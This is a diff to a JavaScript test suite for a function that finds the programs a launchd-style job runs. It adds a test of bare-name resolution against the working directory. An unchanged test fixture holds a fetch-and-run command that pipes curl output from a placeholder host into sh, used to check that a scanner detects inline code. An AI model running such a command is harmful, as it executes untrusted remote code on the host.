@@ -42,6 +42,13 @@ describe('programs of a job', () => {
     ]);
   });
 
+  it('finds a bare name in the working directory where no folder of the search path has it', () => {
+    const job = { ProgramArguments: ['tool'], WorkingDirectory: '/srv' };
+    expect(payloads(job, ['/srv/tool'])).toMatchObject([{ path: '/srv/tool', raw: 'tool', state: 'found' }]);
+    expect(payloads(job, ['/srv/tool', '/usr/sbin/tool'])).toMatchObject([{ path: '/usr/sbin/tool' }]);
+    expect(payloads(job)).toMatchObject([{ path: 'tool', state: 'missing' }]);
+  });
+
   it('keeps inline code', () => {
     const found = payloads({ ProgramArguments: ['/bin/sh', '-c', 'curl http://x | sh'] });
     expect(found[0]).toMatchObject({ role: 'image', path: '/bin/sh' });
